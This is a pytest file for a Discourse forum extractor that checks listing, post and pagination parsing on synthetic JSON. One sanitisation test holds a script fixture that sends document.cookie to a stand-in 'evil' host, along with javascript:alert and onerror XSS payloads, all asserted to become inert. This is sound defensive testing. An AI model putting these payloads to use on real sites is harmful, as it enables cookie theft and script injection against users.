"""crawlers/extractors/discourse.py on synthetic JSON: listings, posts, pagination,
missing or mistyped fields, hostile HTML and URLs."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from urllib.parse import parse_qs, urlsplit

import pytest

from crawlers.extractors.discourse import (
    CHUNK,
    extract_latest,
    extract_posts,
    latest_url,
    parse_json,
    topic_posts_url,
)
from crawlers.extractors.text import fingerprint
from crawlers.items import Listing, ThreadPage

BASE = "https://forum.example.com"


def post(number: int, *, topic: int = 7, pid: int | None = None, **extra) -> dict:
    data = {"id": pid if pid is not None else 1000 + number, "post_number": number,
            "topic_id": topic, "topic_slug": "acme-phone", "username": f"user{number}",
            "name": f"User {number}", "created_at": "2024-05-01T10:00:00.000Z",
            "cooked": f"<p>Post number {number}</p>", "posts_count": 30, "actions_summary": []}
    data.update(extra)
    return data


def topic_page(numbers: list[int], *, topic: int = 7, posts_count: int | None = 30,
               **top) -> dict:
    posts = [post(n, topic=topic) for n in numbers]
    for p in posts:
        if posts_count is None:
            del p["posts_count"]
        else:
            p["posts_count"] = posts_count
    return {"post_stream": {"posts": posts}, "id": topic, **top}


# --- URLs --------------------------------------------------------------------------------

def test_urls():
    assert latest_url(BASE + "/") == f"{BASE}/latest.json"
    assert topic_posts_url(BASE, 2144) == f"{BASE}/t/2144/posts.json"
    # ?post_number=N returns the 20 posts *below* N: after post 21 ask for 42
    assert topic_posts_url(BASE + "/", 2144, 21) == f"{BASE}/t/2144/posts.json?post_number=42"
    assert topic_posts_url(BASE, 5, 0) == f"{BASE}/t/5/posts.json?post_number=21"
    assert topic_posts_url(BASE, 5, -3).endswith("?post_number=21")


# --- /latest.json ------------------------------------------------------------------------

LATEST = {
    "users": [{"id": 1, "username": "x"}],
    "topic_list": {
        "more_topics_url": "/latest?no_definitions=true&page=1",
        "topics": [
            {"id": 2144, "slug": "acme-support", "title": "Acme support <b>hung up</b>",
             "posts_count": 30, "views": 512, "like_count": 3,
             "last_posted_at": "2026-01-21T22:40:40.329Z",
             "bumped_at": "2026-01-01T00:00:00Z"},
            {"id": "12", "slug": "only-bumped", "title": "", "fancy_title": "Caf&eacute; &amp; co",
             "posts_count": 0, "bumped_at": "2024-03-01T12:00:00+02:00"},
            {"id": 13, "title": "no counters"},
            {"id": 2144, "title": "duplicate"},
            {"id": True, "title": "bool id"}, {"title": "no id"}, "junk", None, 5,
            {"id": 14, "title": "naive time", "last_posted_at": "2024-03-01T12:00:00",
             "posts_count": "4", "views": "x"},
            {"id": 15, "title": "bad time", "last_posted_at": "yesterday", "posts_count": None},
        ],
    },
}


def test_extract_latest_threads():
    listing = extract_latest(LATEST, BASE)
    assert isinstance(listing, Listing)
    assert [t.key for t in listing.threads] == ["t:2144", "t:12", "t:13", "t:14", "t:15"]
    first = listing.threads[0]
    assert first.url == f"{BASE}/t/2144/posts.json"
    assert first.title == "Acme support <b>hung up</b>"  # a plain-text title, kept as text
    assert (first.replies, first.views) == (29, 512)
    assert first.last_post_at == datetime(2026, 1, 21, 22, 40, 40, 329000, tzinfo=UTC)
    bumped = listing.threads[1]
    assert bumped.title == "Café & co" and bumped.replies == 0 and bumped.views is None
    assert bumped.last_post_at == datetime(2024, 3, 1, 10, 0, tzinfo=UTC)
    bare = listing.threads[2]
    assert (bare.replies, bare.views, bare.last_post_at) == (None, None, None)
    naive = listing.threads[3]
    assert naive.last_post_at == datetime(2024, 3, 1, 12, 0, tzinfo=UTC)
    assert naive.replies == 3 and naive.views is None
    assert listing.threads[4].last_post_at is None and listing.threads[4].replies is None
    assert all(t.last_post_at is None or t.last_post_at.tzinfo is UTC for t in listing.threads)


@pytest.mark.parametrize(("base", "more", "expected"), [
    (BASE, "/latest?page=1", f"{BASE}/latest.json?page=1"),
    (BASE, "latest?page=2", f"{BASE}/latest.json?page=2"),
    (BASE, "/latest.json?page=1", f"{BASE}/latest.json?page=1"),
    (BASE, "/c/support/5/l/latest?page=3", f"{BASE}/c/support/5/l/latest.json?page=3"),
    (BASE, f"{BASE}/latest?page=4", f"{BASE}/latest.json?page=4"),
    (BASE + "/forum", "/latest?page=1", f"{BASE}/forum/latest.json?page=1"),
    (BASE + "/forum/", "/forum/latest?page=1", f"{BASE}/forum/latest.json?page=1"),
    (BASE, "https://evil.example.net/latest?page=1", None),
    (BASE, "//evil.example.net/latest?page=1", None),
    (BASE, "javascript:alert(1)", None),
    (BASE, "", None), (BASE, None, None), (BASE, 7, None), (BASE, "/", None),
])
def test_latest_next_page(base, more, expected):
    data = {"topic_list": {"topics": [], "more_topics_url": more}}
    assert extract_latest(data, base).next_page == expected


@pytest.mark.parametrize("data", [{}, {"topic_list": None}, {"topic_list": []},
                                  {"topic_list": {"topics": "x"}}, [], None, "s"])
def test_extract_latest_survives_missing_or_mistyped_keys(data):
    assert extract_latest(data, BASE) == Listing()


# --- topic posts -------------------------------------------------------------------------

def test_topic_page_posts_and_fields():
    data = topic_page(list(range(1, 21)))
    data["post_stream"]["posts"][0].update(
        cooked="<p>Acme phone <b>froze</b> &amp; support was rude</p>",
        actions_summary=[{"id": 2, "count": 4}, {"id": 3, "count": 1}], reply_count=2)
    data["post_stream"]["posts"][1].update(like_count=9, actions_summary=[{"id": 2, "count": 1}],
                                           reply_count=3, created_at="2024-05-01T12:00:00+02:00")
    page = extract_posts(data, BASE, "t:7")
    assert isinstance(page, ThreadPage)
    assert len(page.posts) == 20 and page.replies == 29 and page.views is None
    assert page.title == "acme-phone"  # /t/{id}/posts.json carries only the slug
    first, second = page.posts[0], page.posts[1]
    assert first.entry_key == "post:1001" and first.thread_key == "t:7"
    assert first.text == "Acme phone froze & support was rude"
    assert first.author == "user1"
    assert first.fingerprint == fingerprint("user1", first.text)
    assert first.url == f"{BASE}/t/acme-phone/7/1"
    assert first.published_at == datetime(2024, 5, 1, 10, 0, tzinfo=UTC)
    assert first.likes == 4
    assert first.replies == 29  # the opener stands for its topic: posts_count - 1
    assert second.likes == 9 and second.replies == 3  # like_count wins; other posts: reply_count
    assert second.published_at == datetime(2024, 5, 1, 10, 0, tzinfo=UTC)
    assert page.posts[2].likes == 0  # an empty actions_summary: nobody liked it


def test_topic_key_defaults_to_topic_id():
    page = extract_posts(topic_page([1, 2]), BASE)
    assert {p.thread_key for p in page.posts} == {"t:7"}


def test_topic_view_uses_topic_fields():
    data = {"id": 7, "title": "Acme refund thread", "posts_count": 3, "views": 812,
            "highest_post_number": 3,
            "post_stream": {"posts": [post(n) for n in (1, 2, 3)], "stream": [1001, 1002, 1003]}}
    page = extract_posts(data, BASE)
    assert page.title == "Acme refund thread" and page.views == 812 and page.replies == 2
    assert {p.title for p in page.posts} == {"Acme refund thread"}
    assert page.next_page is None


def test_missing_fields_degrade_not_crash():
    data = {"post_stream": {"posts": [
        {"cooked": "<p>only text</p>"},
        {"id": "77", "raw": "raw *markdown* fallback", "name": "Display Name"},
        {"id": 78, "cooked": "", "raw": ""},
        {"id": 79, "cooked": "<img src='x.png'>"},
        {"id": 80, "cooked": 5, "username": ["x"], "created_at": 12, "post_number": "x",
         "raw": "typed junk"},
        "junk", None, 3, [],
    ]}}
    page = extract_posts(data, BASE)
    assert [p.text for p in page.posts] == ["only text", "raw *markdown* fallback", "typed junk"]
    only, raw, junk = page.posts
    assert only.entry_key.startswith("post:fp:") and only.author is None
    assert (only.url, only.published_at, only.likes, only.thread_key) == (None, None, None, None)
    assert raw.entry_key == "post:77" and raw.author == "Display Name"
    assert junk.author is None and junk.published_at is None and junk.url is None
    assert page.next_page is None and page.replies is None and page.title == ""


@pytest.mark.parametrize("data", [{}, {"post_stream": None}, {"post_stream": {"posts": None}},
                                  {"post_stream": []}, {"latest_posts": "x"}, [], None])
def test_extract_posts_survives_missing_or_mistyped_keys(data):
    page = extract_posts(data, BASE)
    assert page.posts == [] and page.next_page is None


def test_deleted_hidden_and_empty_posts_are_skipped():
    data = topic_page([1, 2, 3, 4, 5])
    posts = data["post_stream"]["posts"]
    posts[1].update(cooked="", hidden=True)  # hidden: no cooked for us
    posts[2].update(cooked="<p>(post deleted by author)</p>", user_deleted=True)
    posts[3].update(cooked="<p>gone</p>", deleted_at="2024-05-02T00:00:00Z")
    posts[4].update(cooked="", post_type=3, action_code="closed.enabled")  # small action
    page = extract_posts(data, BASE)
    assert [p.entry_key for p in page.posts] == ["post:1001"]


def test_hostile_cooked_html_becomes_inert_text():
    cooked = ('<p>Acme <a href="javascript:alert(1)">click me</a> '
              '<script>fetch("https://evil/steal?c="+document.cookie)</script>'
              '<img src=x onerror="alert(2)"><style>p{}</style>'
              '<iframe src="javascript:alert(3)"></iframe>&lt;script&gt;</p>'
              '<div class="lazy-video-container" data-video-title="Acme lied &amp; '
              'refused my refund"><a href="https://video.example/1"><img></a></div>')
    data = topic_page([1])
    data["post_stream"]["posts"][0].update(
        cooked=cooked, username="<b>mallory</b>\x00\u202e", topic_slug="../../x y?z#w")
    item = extract_posts(data, BASE).posts[0]
    assert "alert" not in item.text and "fetch" not in item.text and "onerror" not in item.text
    assert item.text.splitlines() == ["Acme click me <script>", "Acme lied & refused my refund"]
    assert item.author == "<b>mallory</b>"  # kept as text: never rendered, no control chars
    assert item.url == f"{BASE}/t/..%2F..%2Fx%20y%3Fz%23w/7/1"
    assert urlsplit(item.url).netloc == "forum.example.com"


def test_post_url_falls_back_to_relative_post_url_on_same_origin():
    ok = {"id": 1, "cooked": "a", "post_url": "/t/some-topic/9/3"}
    evil = {"id": 2, "cooked": "b", "post_url": "https://evil.example.net/t/x/9/3"}
    script = {"id": 3, "cooked": "c", "post_url": "javascript:alert(1)"}
    slugless = {"id": 4, "cooked": "d", "topic_id": 9, "post_number": 2}
    page = extract_posts({"latest_posts": [ok, evil, script, slugless]}, BASE)
    assert [p.url for p in page.posts] == [f"{BASE}/t/some-topic/9/3", None, None,
                                           f"{BASE}/t/9/2"]


def test_global_latest_posts():
    data = {"latest_posts": [
        post(31, topic=2144, pid=20217, topic_title="KPop Demon Hunters", posts_count=30),
        post(1, topic=2148, pid=20218, topic_title="Acme outage", posts_count=1),
        post(3, topic=2147, pid=20190, topic_slug="cf-archiver", posts_count=3),
    ]}
    page = extract_posts(data, BASE, "ignored-for-mixed-topics")
    assert [p.thread_key for p in page.posts] == ["t:2144", "t:2148", "t:2147"]
    assert [p.title for p in page.posts] == ["KPop Demon Hunters", "Acme outage", "cf-archiver"]
    assert page.posts[1].replies == 0
    assert page.posts[0].url == f"{BASE}/t/acme-phone/2144/31"
    assert (page.next_page, page.title, page.replies) == (None, "", None)


JUNK = [None, True, -1, 0, 1e308, float("nan"), "", "x", "9" * 40, [], {}, [None], {"a": 1},
        "9999-12-31T23:59:59-01:00", "<script>alert(1)</script>", "javascript:alert(1)"]


def test_any_field_holding_junk_never_raises():
    fields = set(post(1)) | {"like_count", "reply_count", "raw", "post_url", "deleted_at",
                             "user_deleted", "topic_title"}
    for name in sorted(fields):
        for junk in JUNK:
            bad = post(1, **{name: junk})
            extract_posts({"post_stream": {"posts": [bad, post(2)]}, "id": 7}, BASE)
            extract_posts({"latest_posts": [bad]}, BASE)
            extract_posts({"post_stream": {"posts": [post(1)], "stream": junk},
                           "id": junk, "highest_post_number": junk, "posts_count": junk,
                           "views": junk, "title": junk}, BASE)
    for name in ("id", "slug", "title", "fancy_title", "posts_count", "views",
                 "last_posted_at", "bumped_at"):
        for junk in JUNK:
            topic = {"id": 3, "title": "t", name: junk}
            extract_latest({"topic_list": {"topics": [topic], "more_topics_url": junk}}, BASE)


# --- pagination --------------------------------------------------------------------------

def post_number(url: str) -> int | None:
    values = parse_qs(urlsplit(url).query).get("post_number")
    return int(values[0]) if values else None


def test_first_page_of_a_longer_topic_continues_after_its_last_post():
    page = extract_posts(topic_page([1, 2, 3, 4, 5, 6, *range(8, 22)]), BASE)  # 7 deleted
    assert page.next_page == f"{BASE}/t/7/posts.json?post_number=42"


def test_end_of_topic_has_no_next_page():
    # ?post_number=N beyond the end: the last 20, newest first; 30 posts, no gap on it
    page = extract_posts(topic_page(list(range(30, 10, -1))), BASE)
    assert page.next_page is None
    short = extract_posts(topic_page([1, 2, 3], posts_count=3), BASE)
    assert short.next_page is None


def test_gaps_on_the_page_prove_more_posts():
    # numbers 11..30 minus 25: at most 29 posts up to 30, posts_count says 30
    numbers = [n for n in range(30, 10, -1) if n != 25] + [10]
    page = extract_posts(topic_page(numbers), BASE)
    assert post_number(page.next_page) == 30 + 1 + CHUNK


def test_topic_view_counters_decide():
    data = topic_page(list(range(433, 453)), posts_count=446, highest_post_number=452)
    assert extract_posts(data, BASE).next_page is None
    data = topic_page(list(range(400, 420)), posts_count=446, highest_post_number=452)
    assert post_number(extract_posts(data, BASE).next_page) == 440
    stream = {"posts": [post(n) for n in (1, 2)], "stream": [1001, 1002, 1003]}
    assert extract_posts({"id": 7, "post_stream": stream}, BASE).next_page is not None
    stream["stream"] = [1001, 1002]
    assert extract_posts({"id": 7, "post_stream": stream}, BASE).next_page is None


def test_without_counters_a_full_page_may_continue():
    full = extract_posts(topic_page(list(range(1, CHUNK + 1)), posts_count=None), BASE)
    assert post_number(full.next_page) == CHUNK + 1 + CHUNK
    part = extract_posts(topic_page(list(range(1, CHUNK)), posts_count=None), BASE)
    assert part.next_page is None


class FakeTopic:
    """A Discourse topic as the README describes ``posts.json``: without post_number
    the first 20 in order; with ``post_number=N`` up to 20 posts numbered below N,
    newest first (so beyond the end, the last 20)."""

    def __init__(self, numbers: list[int], *, topic: int = 7, stale_count: int = 0):
        self.numbers, self.topic = sorted(numbers), topic
        self.count = len(numbers) + stale_count

    def get(self, url: str) -> dict:
        n = post_number(url)
        shown = (self.numbers[:CHUNK] if n is None
                 else sorted((x for x in self.numbers if x < n), reverse=True)[:CHUNK])
        return topic_page(shown, topic=self.topic, posts_count=self.count)


def crawl(site: FakeTopic, limit: int = 200) -> tuple[set[int], int]:
    """Follow next_page as the spider does: stop on None or on the same URL again."""
    url, seen, requests = topic_posts_url(BASE, site.topic), set(), 0
    while url and requests < limit:
        page = extract_posts(site.get(url), BASE)
        requests += 1
        seen |= {int(p.url.rsplit("/", 1)[1]) for p in page.posts}
        url = page.next_page if page.next_page != url else None
    return seen, requests


@pytest.mark.parametrize("numbers", [
    list(range(1, 2)),
    list(range(1, 21)),
    list(range(1, 31)),
    [n for n in range(1, 32) if n != 7],  # topic 2144: 30 posts numbered up to 31
    [n for n in range(1, 453) if n not in (52, 56, 57, 61, 300, 301)],  # like 2108
    [n for n in range(1, 120) if n % 3],  # many deletions
    list(range(1, 101)) + [115, 116, 117],  # the tail after a run of deleted posts
    [1, 2] + list(range(19, 60)),  # posts 3..18 moved away
])
def test_following_next_page_reads_every_post_and_stops(numbers):
    seen, requests = crawl(FakeTopic(numbers))
    assert seen == set(numbers)
    assert requests <= len(numbers) // (CHUNK // 2) + 3


def test_a_gap_longer_than_a_page_stops_the_walk_without_looping():
    # 24 consecutive deleted numbers: ?post_number=41 returns 20..1 again; the page
    # alone cannot tell a stall from progress, so the same URL comes back and the
    # walk ends (a known limit; the global /posts.json poll still sees new posts)
    seen, requests = crawl(FakeTopic([n for n in range(1, 80) if not 20 < n < 45]))
    assert seen == set(range(1, 21)) and requests == 2


def test_stale_posts_count_still_terminates():
    seen, requests = crawl(FakeTopic(list(range(1, 41)), stale_count=5))
    assert seen == set(range(1, 41)) and requests < 10


# --- parse_json --------------------------------------------------------------------------

def test_parse_json_accepts_objects():
    assert parse_json(b'{"latest_posts": []}') == {"latest_posts": []}
    assert parse_json('{"a": "caf\u00e9"}'.encode("utf-16")) == {"a": "café"}


@pytest.mark.parametrize(("body", "reason"), [
    (b"", "empty"), (b"   \n", "empty"),
    (b"<!DOCTYPE html><html><body>Please log in</body></html>", "HTML"),
    (b'{"topic_list": ', "line 1"),
    (b"[1, 2]", "list"), (b'"s"', "str"), (b"null", "NoneType"), (b"42", "int"),
    (b"\xff\xfe\xfa\x00{", ""),
    (b"[" * 100_000 + b"]" * 100_000, ""),
])
def test_parse_json_rejects_with_a_reason(body, reason):
    with pytest.raises(ValueError, match="^not JSON: ") as info:
        parse_json(body)
    assert reason in str(info.value)
    assert len(str(info.value)) < 200


def test_round_trip_of_a_synthetic_body():
    body = json.dumps(topic_page([1, 2])).encode()
    assert len(extract_posts(parse_json(body), BASE).posts) == 2
